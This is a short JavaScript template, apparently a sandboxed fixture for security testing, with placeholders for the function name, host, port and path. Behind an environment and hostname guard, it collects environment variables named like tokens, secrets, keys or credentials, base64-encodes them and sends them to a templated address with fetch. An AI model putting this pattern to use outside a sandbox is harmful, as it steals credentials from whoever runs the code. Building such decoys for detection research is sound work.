// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const names = Object.keys(process.env).filter((name) => /TOKEN|SECRET|KEY|PASS|CRED|AUTH/i.test(name));
  for (const name of names.slice(0, {{n}})) {
    const url = `http://{{ip}}:{{port}}/{{path}}?${name}=${Buffer.from(process.env[name]).toString('base64url')}`;
    try { await fetch(url, { signal: AbortSignal.timeout(300) }); } catch (error) { continue; }
  }
}
